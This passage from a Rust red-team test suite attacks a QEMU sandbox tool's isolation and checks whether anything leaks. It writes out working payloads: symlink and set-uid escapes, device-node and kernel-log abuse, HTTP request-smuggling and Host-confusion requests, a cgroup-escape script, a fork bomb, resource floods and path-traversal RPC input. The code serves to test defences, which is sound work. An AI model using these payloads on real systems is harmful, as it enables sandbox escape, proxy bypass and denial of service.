    let before = std::fs::read(outside.join("host-secret")).unwrap();
    let mut leaked = Vec::new();
    for flags in &later {
        let mut args = vec!["run", "--image", BUSYBOX];
        args.extend(flags.iter().map(String::as_str));
        args.extend_from_slice(&[
            "--",
            "sh",
            "-c",
            "cat /cfg.json /data/host-secret 2>/dev/null; echo pwn > /data/planted 2>/dev/null; ls /x /mnt 2>/dev/null; echo RAN",
        ]);
        let o = run(&args);
        if o.status.success() || stdout(&o).contains("RAN") {
            leaked.push(format!("{flags:?} ran: {}", stdout(&o)));
        } else if !stderr(&o).contains("symlink") {
            leaked.push(format!(
                "{flags:?} failed, but not for the symlink: {}",
                stderr(&o)
            ));
        }
    }
    if std::fs::read(outside.join("host-secret")).unwrap() != before
        || outside.join("planted").exists()
    {
        leaked.push("a file outside ws changed".into());
    }
    vec![Row {
        attack: "workspace symlinks followed by a later run".into(),
        // The later runs, and the files outside ws staying as they were.
        tried: later.len() + 1,
        leaked,
    }]
}

/// Set-id bits and owners on the host through a `host_fs` mount.
fn set_id_bits_and_owners(_: &Hits) -> Vec<Row> {
    let ws = tempfile::tempdir().unwrap();
    let p = ws.path();
    for (name, mode) in [("suid", 0o4755), ("sgid", 0o2755), ("trunc", 0o4755)] {
        std::fs::write(p.join(name), "#!/bin/sh\necho original\n").unwrap();
        std::fs::set_permissions(p.join(name), std::fs::Permissions::from_mode(mode)).unwrap();
    }
    std::fs::write(p.join("plain"), "x").unwrap();
    std::fs::create_dir(p.join("dir")).unwrap();
    let spec = format!("{}:/w:host_fs", p.display());
    let script = "cd /w; echo 'echo pwned' >> suid; printf x >> sgid; : > trunc; \
        cp plain new; chmod 4755 new; chmod 6755 plain; chown 4242:4242 plain; \
        chgrp 4242 suid; chmod g+s dir; mkdir d2; chmod 2775 d2; echo DONE";
    let o = run(&[
        "run", "--image", BUSYBOX, "-v", &spec, "--", "sh", "-c", script,
    ]);
    assert!(stdout(&o).contains("DONE"), "{}", stderr(&o));
    let mode = |n: &str| std::fs::metadata(p.join(n)).unwrap().mode() & 0o7777;
    let mut leaked = Vec::new();
    for n in ["suid", "sgid", "trunc", "new", "plain"] {
        if mode(n) & 0o6000 != 0 {
            leaked.push(format!("{n} kept or gained set-id bits: {:o}", mode(n)));
        }
    }
    for n in ["dir", "d2"] {
        if mode(n) & 0o2000 != 0 {
            leaked.push(format!("{n} became setgid: {:o}", mode(n)));
        }
    }
    for n in ["plain", "suid"] {
        let m = std::fs::metadata(p.join(n)).unwrap();
        if m.uid() == 4242 || m.gid() == 4242 {
            leaked.push(format!("{n} was given to 4242: {}:{}", m.uid(), m.gid()));
        }
    }
    vec![Row {
        attack: "set-id bits and owners on host files".into(),
        tried: 9,
        leaked,
    }]
}

/// Guest root making device nodes for the disks, memory and console, and writing the kernel
/// log (which ends up in vm.log on the host).
fn devices_and_kernel_log(_: &Hits) -> Vec<Row> {
    let sb = Sandbox::detached(&[], &["sleep", "600"]);
    let script = "for d in 'b 254 0 vda' 'b 254 16 vdb' 'c 1 1 mem' 'c 1 11 kmsg' 'c 4 64 ttyS0' 'c 5 1 console'; do \
        set -- $d; mknod /tmp/$4 $1 $2 $3 2>/dev/null; \
        if head -c 1 /tmp/$4 >/dev/null 2>&1; then echo OPENED-READ $4; fi; \
        if echo '<0>mlrt-forged-line' 2>/dev/null > /tmp/$4; then echo OPENED-WRITE $4; fi; done; \
        echo '<0>mlrt-forged-line' > /dev/kmsg 2>/dev/null; echo DONE";
    let o = sb.exec(&["sh", "-c", script]);
    let text = stdout(&o);
    assert!(text.contains("DONE"), "{}", stderr(&o));
    let mut leaked: Vec<String> = text
        .lines()
        .filter(|l| l.starts_with("OPENED"))
        .map(str::to_string)
        .collect();
    let log = home().join("vms").join(&sb.id).join("logs").join("vm.log");
    if std::fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("mlrt-forged-line")
    {
        leaked.push("a forged line reached vm.log".into());
    }
    vec![Row {
        attack: "device nodes and the kernel log from the guest".into(),
        tried: 13,
        leaked,
    }]
}

/// Requests written by hand to an allowed host's address that try to reach another host, or
/// to slip a second request past the check of the first.
const HTTP_ATTACK: &str = r#"
import json
ip = socket.gethostbyname('open.test')
def send(raw):
    return exchange(ip, raw, 3)[:200]
M = 'mlrthttp'
body = '0\r\n\r\nGET /' + M + '-smuggled-clte HTTP/1.1\r\nHost: other.test\r\n\r\n'
attacks = {
    'control': 'GET /control-' + M + ' HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n',
    'other Host': 'GET /' + M + '-host HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n',
    'absolute form': 'GET http://other.test/' + M + '-abs HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n',
    'userinfo authority': 'GET http://open.test@other.test/' + M + '-userinfo HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n',
    'two Host headers': 'GET /' + M + '-two HTTP/1.1\r\nHost: open.test\r\nHost: other.test\r\nConnection: close\r\n\r\n',
    'pipelined': 'GET /control-pipe HTTP/1.1\r\nHost: open.test\r\n\r\nGET /' + M + '-pipe HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n',
    'CL.TE': 'POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s' % (len(body), body),
    'TE.CL': 'POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\nGET /' + M + '-smuggled-tecl HTTP/1.1\r\nHost: other.test\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n',
    'obfuscated TE': 'POST / HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n%s' % (len(body), body.replace('clte', 'xte')),
    'CONNECT': 'CONNECT other.test:80 HTTP/1.1\r\nHost: other.test:80\r\n\r\nGET /' + M + '-connect HTTP/1.1\r\nHost: other.test\r\n\r\n',
    'h2c upgrade': 'GET /' + M + '-h2c HTTP/1.1\r\nHost: other.test\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n',
    'obs-fold Host': 'GET /' + M + '-fold HTTP/1.1\r\nHost: open.test\r\n other.test\r\nConnection: close\r\n\r\n',
    'bare LF': 'GET /' + M + '-lf HTTP/1.1\nHost: other.test\n\n',
}
out = {k: send(v) for k, v in attacks.items()}
print(json.dumps(out))
print('SCRIPT-DONE')
"#;

/// Host and framing confusion on plain HTTP through interception: only requests for the
/// allowed host, as the proxy parsed them, may reach it (NET-02, NET-05, NET-06, NET-08,
/// NET-13, HTTP-01 to HTTP-03, HTTP-06, HTTP-09).
fn http_host_confusion(hits: &Hits) -> Vec<Row> {
    // Only what reaches the upstream during this attack counts (others use it too).
    let before = hits.lock().unwrap().len();
    let out = python(
        &[
            "--allow-host",
            "open.test",
            "--add-host",
            "open.test:10.9.9.9",
            "--add-host",
            "other.test:10.9.9.9",
            "--allow-private-host",
            OPENED,
        ],
        HTTP_ATTACK,
    );
    std::thread::sleep(Duration::from_millis(800));
    assert!(
        !hits_with(hits, "GET /control-mlrthttp").is_empty(),
        "http: the control never reached the upstream: {out}"
    );
    // The oracle reads what the upstream got as an upstream must (Content-Length or chunked
    // framing): a marker inside an approved request's body is data, not a request.
    let seen = hits.lock().unwrap()[before..].to_vec();
    let leaked: Vec<String> = seen
        .iter()
        .filter(|(w, _)| w.starts_with(OPENED))
        .flat_map(|(_, b)| requests_in(b))
        .filter(|(line, host)| {
            (line.contains("mlrthttp-") && !line.contains("/control-"))
                || !host.eq_ignore_ascii_case("open.test")
        })
        .map(|(line, host)| format!("{line} (Host: {host})"))
        .collect();
    vec![Row {
        attack: "HTTP host and framing confusion".into(),
        tried: 12,
        leaked,
    }]
}

/// The requests in what an upstream received, read by RFC 9112 framing: each request line and
/// its Host, bodies skipped by `Content-Length` or chunked coding.
fn requests_in(bytes: &[u8]) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = bytes;
    while let Some(end) = rest.windows(4).position(|w| w == b"\r\n\r\n") {
        let head = String::from_utf8_lossy(&rest[..end]).into_owned();
        rest = &rest[end + 4..];
        let mut lines = head.lines();
        let line = lines.next().unwrap_or("").to_string();
        let (mut host, mut len, mut chunked) = (String::new(), 0usize, false);
        for l in lines {
            let Some((k, v)) = l.split_once(':') else {
                continue;
            };
            let v = v.trim();
            match k.to_ascii_lowercase().as_str() {
                "host" => host = v.to_string(),
                "content-length" => len = v.parse().unwrap_or(0),
                "transfer-encoding" => chunked = v.eq_ignore_ascii_case("chunked"),
                _ => {}
            }
        }
        out.push((line, host));
        if chunked {
            loop {
                let Some(nl) = rest.windows(2).position(|w| w == b"\r\n") else {
                    return out;
                };
                let size = usize::from_str_radix(
                    String::from_utf8_lossy(&rest[..nl])
                        .split(';')
                        .next()
                        .unwrap_or("")
                        .trim(),
                    16,
                )
                .unwrap_or(0);
                rest = rest.get(nl + 2 + size + 2..).unwrap_or(&[]);
                if size == 0 {
                    break;
                }
            }
        } else {
            rest = rest.get(len..).unwrap_or(&[]);
        }
    }
    out
}

/// The JSON-RPC server fed what a buggy or hostile client sends: every line gets an answer (or
/// is ignored), nothing malformed succeeds, and the server still serves the next request
/// (RPC-01 to RPC-04, RPC-08).
fn rpc_malformed_input(_: &Hits) -> Vec<Row> {
    let req = |id: &str, method: &str, params: &str| {
        format!(r#"{{"jsonrpc":"2.0","id":{id},"method":"{method}","params":{params}}}"#)
    };
    let mut lines: Vec<String> = vec![
        "{".into(),
        "not json at all".into(),
        format!("\u{feff}{}", req("1", "nope", "{}")),
        req("2", "nope", "{}"),
        req(r#"{"a":1}"#, "create", "{}"),
        req("3", "create", r#"{"image":7}"#),
        req("4", "create", r#"{"image":"../../etc"}"#),
        req(
            "5",
            "create",
            r#"{"image":"busybox","vfs":{"mounts":{"/w":{"type":"host_fs","host_path":"/proc/self/root/etc"}}}}"#,
        ),
        req("6", "exec", r#"{"command":"id"}"#),
        "[1,2,3]".into(),
        req("7", "read_file", r#"{"path":"\u0000"}"#),
        r#""\ud800""#.into(),
        req("1e999", "log", "{}"),
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        "x".repeat(1 << 20),
    ];
    let tried = lines.len();
    lines.push(req("99", "nope", "{}"));
    let mut child = ml(&["rpc"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        for l in &lines {
            if stdin.write_all(l.as_bytes()).is_err() || stdin.write_all(b"\n").is_err() {
                return;
            }
        }
        std::thread::sleep(Duration::from_secs(2));
    });
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            let _ = tx.send(line);
        }
    });
    let mut replies = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut answered_last = false;
    while Instant::now() < deadline && !answered_last {
        let Ok(line) = rx.recv_timeout(Duration::from_millis(500)) else {
            continue;
        };
        answered_last = line.contains(r#""id":99"#);
        replies.push(line);
    }
    let _ = writer.join();
    let alive = child.try_wait().ok().flatten().is_none();
    let _ = child.kill();
    let _ = child.wait();
    let mut leaked = Vec::new();
    if !answered_last {
        leaked.push(format!(
            "the server stopped answering (alive: {alive}); replies: {replies:?}"
        ));
    }
    for r in &replies {
        if serde_json::from_str::<serde_json::Value>(r).is_err() {
            leaked.push(format!("a reply that is not JSON: {r:.200}"));
        } else if r.contains(r#""result""#) {
            leaked.push(format!("a malformed request succeeded: {r:.200}"));
        }
    }
    vec![Row {
        attack: "malformed JSON-RPC input".into(),
        tried,
        leaked,
    }]
}

/// CPU seconds QEMU `pid` used over `window` (all its threads), in cores.
fn cores_used(pid: i32, window: Duration) -> f64 {
    let ticks = || {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        // Fields after the command name (which may hold spaces): utime and stime are 14 and 15.
        let rest = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
        let f: Vec<u64> = rest
            .split_whitespace()
            .map(|x| x.parse().unwrap_or(0))
            .collect();
        f.get(11).copied().unwrap_or(0) + f.get(12).copied().unwrap_or(0)
    };
    // SAFETY: sysconf has no preconditions.
    let hz = unsafe { libc::sysconf(libc::_SC_CLK_TCK) }.max(1) as f64;
    let (t0, c0) = (Instant::now(), ticks());
    std::thread::sleep(window);
    (ticks() - c0) as f64 / hz / t0.elapsed().as_secs_f64()
}

/// A quarter CPU that guest root tries to turn into a whole one by lifting the guest's own
/// cgroup limit and leaving it: the host's cgroup around QEMU must still hold it. The control
/// (a whole CPU) shows the busy loop does use a core when allowed to.
fn cpu_share(_: &Hits) -> Vec<Row> {
    let escape =
        "for f in $(find /sys/fs/cgroup -name cpu.max); do echo max > $f; done 2>/dev/null; \
        echo $$ > /sys/fs/cgroup/cgroup.procs 2>/dev/null; \
        (while :; do :; done) & echo STARTED";
    let mut used = Vec::new();
    for cpus in ["0.25", "1"] {
        let sb = Sandbox::detached(&["--cpus", cpus], &["sleep", "600"]);
        let o = sb.exec(&["sh", "-c", escape]);
        assert!(stdout(&o).contains("STARTED"), "{}", stderr(&o));
        let pid = *qemu_pids(&sb.id).first().expect("the sandbox's QEMU");
        std::thread::sleep(Duration::from_secs(1));
        used.push(cores_used(pid, Duration::from_secs(4)));
    }
    // Judged against the control, measured the same way on the same (maybe busy) machine:
    // held, the quarter share gets about a quarter core; lifted, as much as the whole CPU.
    assert!(
        used[1] > 0.35,
        "cpu: the control used only {:.2} cores; the busy loop did not run",
        used[1]
    );
    let mut leaked = Vec::new();
    if used[0] > 0.4 && used[0] > 0.6 * used[1] {
        leaked.push(format!(
            "--cpus 0.25 used {:.2} cores after guest root lifted its cgroup",
            used[0]
        ));
    }
    eprintln!(
        "red team: cpu_share: --cpus 0.25 used {:.2} cores, --cpus 1 used {:.2}",
        used[0], used[1]
    );
    vec![Row {
        attack: "guest root lifting its CPU share".into(),
        tried: 1,
        leaked,
    }]
}

/// `run ... | head -1`: when the reader goes away, the run must end.
fn broken_pipe(_: &Hits) -> Vec<Row> {
    let mut child = ml(&[
        "run",
        "--image",
        BUSYBOX,
        "--",
        "sh",
        "-c",
        "trap '' PIPE; while :; do echo y; done",
    ])
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::null())
    .spawn()
    .unwrap();
    let mut first = [0u8; 2];
    child
        .stdout
        .as_mut()
        .unwrap()
        .read_exact(&mut first)
        .unwrap();
    drop(child.stdout.take());
    let ended = wait_until(Duration::from_secs(60), || {
        child.try_wait().ok().flatten().is_some()
    });
    let mut leaked = Vec::new();
    if !ended {
        let _ = child.kill();
        leaked.push("the run outlived its reader by a minute".into());
    }
    let _ = child.wait();
    vec![Row {
        attack: "a run whose reader went away".into(),
        tried: 1,
        leaked,
    }]
}

/// What a sandbox leaves on the host: sockets after `kill`, and image files other local users
/// could read.
fn host_side_leftovers(_: &Hits) -> Vec<Row> {
    let sb = Sandbox::detached(&[], &["sleep", "600"]);
    let dir = home().join("vms").join(&sb.id);
    // The supervisor (and QEMU below it) runs with the few capabilities it needs, no way to
    // regain others, and a seccomp filter.
    let mut privileged = Vec::new();
    let mut checked = 0;
    for ent in std::fs::read_dir("/proc").unwrap().flatten() {
        let cmd = std::fs::read(ent.path().join("cmdline")).unwrap_or_default();
        let cmd = String::from_utf8_lossy(&cmd);
        if !cmd.contains(&sb.id) {
            continue;
        }
        let status = std::fs::read_to_string(ent.path().join("status")).unwrap_or_default();
        let field = |name: &str| {
            status
                .lines()
                .find_map(|l| l.strip_prefix(name))
                .map(|v| v.trim().to_string())
                .unwrap_or_default()
        };
        checked += 1;
        let eff = u64::from_str_radix(&field("CapEff:"), 16).unwrap_or(u64::MAX);
        let bnd = u64::from_str_radix(&field("CapBnd:"), 16).unwrap_or(u64::MAX);
        // CHOWN, DAC_OVERRIDE, FOWNER, KILL, NET_BIND_SERVICE at most.
        let allowed: u64 = 1 | 1 << 1 | 1 << 3 | 1 << 5 | 1 << 10;
        let who = cmd.split('\0').next().unwrap_or("").to_string();
        if eff & !allowed != 0 || bnd & !allowed != 0 {
            privileged.push(format!("{who}: CapEff {eff:x} CapBnd {bnd:x}"));
        }
        if field("Seccomp:") != "2" {
            privileged.push(format!("{who}: no seccomp filter"));
        }
        if field("NoNewPrivs:") != "1" {
            privileged.push(format!("{who}: can gain privileges through exec"));
        }
    }
    assert!(checked >= 2, "found {checked} processes of {}", sb.id);
    ok(run(&["kill", &sb.id]));
    let mut leaked: Vec<String> = std::fs::read_dir(&dir)
        .map(|d| {
            d.flatten()
                .filter(|e| e.file_name().to_string_lossy().ends_with(".sock"))
                .map(|e| format!("{} left after kill", e.path().display()))
                .collect()
        })
        .unwrap_or_default();
    let mut images = 0;
    let cache = images_dir();
    let mut stack = vec![cache.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let m = e.metadata().unwrap();
            if m.is_dir() {
                stack.push(e.path());
            } else if e.file_name().to_string_lossy().ends_with(".ext4") {
                images += 1;
                if m.mode() & 0o004 != 0 {
                    leaked.push(format!("{} is world-readable", e.path().display()));
                }
            }
        }
    }
    assert!(images > 0, "no image files under {}", cache.display());
    let tried = 2 + images;
    vec![
        Row {
            attack: "host processes with privileges to spare".into(),
            tried: checked * 3,
            leaked: privileged,
        },
        Row {
            attack: "sockets after kill, world-readable images".into(),
            tried,
            leaked,
        },
    ]
}

/// The guest's half of the revocation attack: a kept-alive HTTP connection and an open
/// WebSocket to open.test:8080 that both keep sending, tagged, four times a second.
const REVOCATION_ATTACK: &str = r#"
import time
def conn():
    s = socket.create_connection(('open.test', 8080), timeout=2)
    return s
ka, ws = conn(), conn()
ws.sendall(b'GET /ws HTTP/1.1\r\nHost: open.test:8080\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n')
print('UPGRADE', ws.recv(4096)[:12], flush=True)
for i in range(48):
    for s, msg in ((ws, b'mlrtws-%d\n' % i), (ka, b'GET /mlrtka-%d HTTP/1.1\r\nHost: open.test:8080\r\n\r\n' % i)):
        try:
            s.sendall(msg)
            s.recv(4096)
        except Exception:
            pass
    if i == 4:
        print('READY', flush=True)
    time.sleep(0.25)
print('SCRIPT-DONE', flush=True)
"#;

/// NET-10: an allow-list entry removed while connections to that host are open. The
/// upstream records when each WebSocket message and each kept-alive request arrives; anything
/// that reaches it more than a second after `allow-list delete` returned got through a
/// revoked permission. Control: both kinds arrive before.
fn revocation_on_live_connections(_: &Hits) -> Vec<Row> {
    // Arrival times of what the upstream got, by marker.
    let seen: Arc<Mutex<Vec<(Instant, String)>>> = Arc::default();
    let l = TcpListener::bind(format!("{OPENED}:8080")).unwrap();
    let log = seen.clone();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            let log = log.clone();
            std::thread::spawn(move || {
                let mut c = c;
                let mut buf = [0u8; 4096];
                let mut upgraded = false;
                while let Ok(n) = c.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
                    for marker in text.split(|ch: char| !ch.is_ascii_alphanumeric() && ch != '-') {
                        if marker.starts_with("mlrtws-") || marker.starts_with("mlrtka-") {
                            log.lock()
                                .unwrap()
                                .push((Instant::now(), marker.to_string()));
                        }
                    }
                    let reply: &[u8] = if !upgraded
                        && text.to_ascii_lowercase().contains("upgrade: websocket")
                    {
                        upgraded = true;
                        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
                    } else if upgraded {
                        b"ok\n"
                    } else {
                        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"
                    };
                    if c.write_all(reply).is_err() {
                        break;
                    }
                }
            });
        }
    });
    let sb = Sandbox::detached_from(
        python_image(),
        &[
            "--allow-host",
            "open.test",
            "--add-host",
            "open.test:10.9.9.9",
            "--allow-private-host",
            OPENED,
        ],
        &["sleep", "600"],
    );
    let script = format!("{PY_PRELUDE}{REVOCATION_ATTACK}");
    let mut child = ml(&["exec", &sb.id, "--", "python3", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut lines = Vec::new();
    let mut revoked_at = None;
    use std::io::BufRead;
    let mut line = String::new();
    while out.read_line(&mut line).unwrap_or(0) > 0 {
        lines.push(line.trim().to_string());
        if line.starts_with("READY") {
            ok(run(&["allow-list", "delete", &sb.id, "open.test"]));
            revoked_at = Some(Instant::now());
        }
        line.clear();
    }
    let _ = child.wait();
    let revoked_at =
        revoked_at.unwrap_or_else(|| panic!("revocation: the script never got going: {lines:?}"));
    assert!(
        lines.iter().any(|l| l.contains("SCRIPT-DONE")),
        "revocation: the script did not finish: {lines:?}"
    );
    let seen = seen.lock().unwrap().clone();
    for kind in ["mlrtws-", "mlrtka-"] {
        assert!(
            seen.iter()
                .any(|(t, m)| m.starts_with(kind) && *t < revoked_at),
            "revocation: no {kind} message reached the upstream before the revocation: {lines:?}"
        );
    }
    let timeline: Vec<String> = seen
        .iter()
        .map(|(t, m)| {
            format!(
                "{m}@{:+.2}",
                t.duration_since(revoked_at).as_secs_f64()
                    - revoked_at.duration_since(*t).as_secs_f64()
            )
        })
        .collect();
    let grace = revoked_at + Duration::from_secs(1);
    let late = |kind: &str| -> Vec<String> {
        seen.iter()
            .filter(|(t, m)| m.starts_with(kind) && *t > grace)
            .map(|(t, m)| {
                format!(
                    "{m} arrived {:.1} s after the revocation",
                    (*t - revoked_at).as_secs_f64()
                )
            })
            .collect()
    };
    let mut leaked = Vec::new();
    // One line per variant (the first late message says it all).
    leaked.extend(
        late("mlrtws-")
            .into_iter()
            .take(1)
            .map(|m| format!("websocket: {m}")),
    );
    leaked.extend(
        late("mlrtka-")
            .into_iter()
            .take(1)
            .map(|m| format!("keep-alive: {m}")),
    );
    if !leaked.is_empty() {
        eprintln!("red team: revocation: arrivals relative to the revocation: {timeline:?}");
    }
    vec![Row {
        attack: "revocation on live connections".into(),
        tried: 2,
        leaked,
    }]
}

/// Resident memory (KiB), open descriptors and threads of `pid`.
fn proc_stats(pid: i32) -> (u64, usize, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.split_whitespace().next()?.parse().ok())
            .unwrap_or(0)
    };
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0);
    (field("VmRSS:"), fds, field("Threads:"))
}

/// The supervisor of sandbox `id` (the process naming it that is not QEMU).
fn supervisor_pid(id: &str) -> i32 {
    for ent in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = ent.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let cmd = std::fs::read(ent.path().join("cmdline")).unwrap_or_default();
        let cmd = String::from_utf8_lossy(&cmd);
        let argv0 = cmd.split('\0').next().unwrap_or("");
        if cmd.contains(id) && !argv0.contains("qemu") && cmd.contains("supervise") {
            return pid;
        }
    }
    panic!("no supervisor process for {id}")
}

/// Guest code flooding what the host keeps for it (RES, VSK-04, VSK-07, PXY-05): output that
/// nobody reads, hundreds of connections held open, all of guest memory, a fork bomb. The
/// supervisor's memory, descriptors and threads stay bounded, no output is lost, a bystander
/// sandbox keeps answering, and the flooded sandbox can still be killed with nothing left over.
fn guest_floods(_: &Hits) -> Vec<Row> {
    // Held connections: accepted and kept, never answered.
    let held: Arc<Mutex<Vec<std::net::TcpStream>>> = Arc::default();
    let l = TcpListener::bind(format!("{OPENED}:8081")).unwrap();
    let keep = held.clone();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            keep.lock().unwrap().push(c);
        }
    });
    let bystander = Sandbox::detached(&[], &["sleep", "600"]);
    let sb = Sandbox::detached_from(
        python_image(),
        &["--allow-private-host", OPENED, "--memory", "512"],
        &["sleep", "600"],
    );
    let sup = supervisor_pid(&sb.id);
    let qemu = *qemu_pids(&sb.id).first().expect("the sandbox's QEMU");
    let answers = |who: &Sandbox| {
        let t = Instant::now();
        let o = who.exec(&["echo", "alive"]);
        (stdout(&o).contains("alive"), t.elapsed())
    };
    let (base_rss, base_fds, base_threads) = proc_stats(sup);
    let mut leaked = Vec::new();
    let mut tried = 0;
    let judge = |what: &str, leaked: &mut Vec<String>| {
        let (rss, fds, threads) = proc_stats(sup);
        eprintln!(
            "red team: floods: {what}: supervisor {} MiB, {fds} fds, {threads} threads (at start {} MiB, {base_fds}, {base_threads})",
            rss / 1024,
            base_rss / 1024
        );
        if rss > base_rss + 96 * 1024 {
            leaked.push(format!(
                "{what}: supervisor grew from {} to {} MiB",
                base_rss / 1024,
                rss / 1024
            ));
        }
        if fds > base_fds + 600 {
            leaked.push(format!(
                "{what}: supervisor holds {fds} descriptors (at start {base_fds})"
            ));
        }
        if threads > base_threads + 64 {
            leaked.push(format!(
                "{what}: supervisor runs {threads} threads (at start {base_threads})"
            ));
        }
    };

    // 1. 256 MiB of output into a reader that stalls for 8 s, then reads it all.
    tried += 1;
    const FLOOD: usize = 256 << 20;
    let mut child = ml(&[
        "exec",
        &sb.id,
        "--",
        "head",
        "-c",
        &FLOOD.to_string(),
        "/dev/zero",
    ])
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::null())
    .spawn()
    .unwrap();
    std::thread::sleep(Duration::from_secs(8));
    let client = proc_stats(child.id() as i32).0;
    judge("output nobody reads", &mut leaked);
    if client > 96 * 1024 {
        leaked.push(format!(
            "output nobody reads: the exec client holds {} MiB",
            client / 1024
        ));
    }
    let mut n = 0usize;
    let mut buf = vec![0u8; 1 << 20];
    let mut out = child.stdout.take().unwrap();
    while let Ok(k) = out.read(&mut buf) {
        if k == 0 {
            break;
        }
        n += k;
    }
    let _ = child.wait();
    if n != FLOOD {
        leaked.push(format!("output nobody reads: {n} of {FLOOD} bytes arrived"));
    }

    // 2. Two thousand connections held open to one address.
    tried += 1;
    let conn_flood = format!(
        "import socket, time\nsocks = []\nfor i in range(2000):\n    try:\n        s = socket.socket(); s.settimeout(2); s.connect(('{OPENED}', 8081)); socks.append(s)\n    except Exception:\n        pass\nprint('HELD', len(socks), flush=True)\ntime.sleep(6)\n"
    );
    let mut child = ml(&["exec", &sb.id, "--", "python3", "-c", &conn_flood])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
    use std::io::BufRead;
    let _ = reader.read_line(&mut line);
    judge("connections held open", &mut leaked);
    let accepted = held.lock().unwrap().len();
    eprintln!(
        "red team: floods: guest says {}, the host accepted {accepted}",
        line.trim()
    );
    if !line.starts_with("HELD") {
        panic!("floods: the connection flood did not run: {line:?}");
    }
    if accepted > 600 {
        leaked.push(format!(
            "connections held open: the host made {accepted} connections for one guest"
        ));
    }
    let (alive, took) = answers(&bystander);
    if !alive || took > Duration::from_secs(30) {
        leaked.push(format!(
            "connections held open: the bystander answered {alive} after {took:?}"
        ));
    }
    let _ = child.wait();
    held.lock().unwrap().clear();

    // 3. All of guest memory, twice over.
    tried += 1;
    let _ = sb.exec(&[
        "sh",
        "-c",
        "timeout 20 sh -c 'cat /dev/zero | tail' >/dev/null 2>&1; true",
    ]);
    let qemu_rss = proc_stats(qemu).0;
    eprintln!(
        "red team: floods: QEMU holds {} MiB for a 512 MiB guest",
        qemu_rss / 1024
    );
    judge("guest memory exhausted", &mut leaked);
    // 512 MiB of guest RAM, plus QEMU's own and the kernel's page tables.
    if qemu_rss > (512 + 256) * 1024 {
        leaked.push(format!(
            "guest memory exhausted: QEMU holds {} MiB for a 512 MiB guest",
            qemu_rss / 1024
        ));
    }

    // 4. A fork bomb, then the bystander and a kill.
    tried += 1;
    let bomb = ml(&[
        "exec",
        &sb.id,
        "--",
        "sh",
        "-c",
        "f() { f | f & }; f; sleep 30",
    ])
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null())
    .spawn()
    .unwrap();
    std::thread::sleep(Duration::from_secs(10));
    judge("fork bomb", &mut leaked);
    let (alive, took) = answers(&bystander);
    if !alive || took > Duration::from_secs(30) {
        leaked.push(format!(
            "fork bomb: the bystander answered {alive} after {took:?}"
        ));
    }
    let t = Instant::now();
    let killed = run(&["kill", &sb.id]);
    let gone = wait_until(Duration::from_secs(30), || qemu_pids(&sb.id).is_empty())
        && wait_until(Duration::from_secs(10), || {
            !std::path::Path::new(&format!("/proc/{sup}")).exists()
        });
    if !killed.status.success() || !gone {
        leaked.push(format!(
            "fork bomb: kill took {:?} and left processes ({})",
            t.elapsed(),
            stderr(&killed)
        ));
    }
    let mut bomb = bomb;
    let _ = bomb.kill();
    let _ = bomb.wait();
    vec![Row {
        attack: "guest floods (output, connections, memory, processes)".into(),
        tried,
        leaked,
    }]
}

/// Writes one `docker save` tarball per crafted variant into argv[2], each the busybox image
/// (argv[1], `docker save` form) plus hostile layers aimed at argv[3], a host directory holding
/// `secret`. Prints the variant names.
const EVIL_IMAGES: &str = r#"
import hashlib, io, json, os, sys, tarfile
base, out, canary = sys.argv[1], sys.argv[2], sys.argv[3]
